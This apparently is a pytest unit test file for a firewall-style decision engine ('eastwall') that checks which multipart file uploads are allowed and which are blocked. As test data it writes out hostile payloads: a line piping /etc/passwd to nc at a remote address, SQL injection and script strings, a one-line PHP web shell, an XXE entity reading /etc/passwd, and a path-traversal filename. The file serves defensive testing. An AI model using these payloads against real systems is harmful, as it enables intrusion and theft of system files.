"""Uploaded files hold what they hold; what attacks a parser or is run by a web server is acted upon all the same."""

from __future__ import annotations

import pytest
from msgspec.structs import replace
from tests.unit.decision.world import call, live

from eastwall.decision.decide import decide
from eastwall.decision.state import LiveState
from eastwall.model.call import Call

LIVE = live()


def upload(filename: str, text: str, kind: str = "text/plain") -> Call:
    head = f'--b\r\nContent-Disposition: form-data; name="attachment"; filename="{filename}"\r\nContent-Type: {kind}\r\n\r\n'
    asked = call("POST", "/files", f"{head}{text}\r\n--b--\r\n".encode())
    return replace(asked, request=replace(asked.request, headers={"content-type": "multipart/form-data; boundary=b"}))


@pytest.mark.parametrize(
    ("filename", "text"),
    [
        ("dump.sql", "SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE x; --"),
        ("page.html", "<html><script>alert(1)</script></html>"),
        ("run.sh", "#!/bin/sh\ncat /etc/passwd | nc 203.0.113.9 1\n"),
    ],
)
def test_the_text_of_a_file_is_told(filename: str, text: str) -> None:
    decision = decide(upload(filename, text), LIVE, LiveState())
    assert {(f.where, f.confidence) for f in decision.findings} == {("body.attachment.{content}", "low")}
    assert decision.verdict.action == "allow"


@pytest.mark.parametrize(
    ("filename", "text"),
    [
        ("shell.php", "<?php system($_GET['c']); ?>"),
        ("shell.php.jpg", "<?php system($_GET['c']); ?>"),
        ("a.svg", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
        ("../../etc/cron.d/x.txt", "ordinary"),
    ],
)
def test_what_does_harm_by_itself(filename: str, text: str) -> None:
    assert decide(upload(filename, text), LIVE, LiveState()).verdict.action == "block"
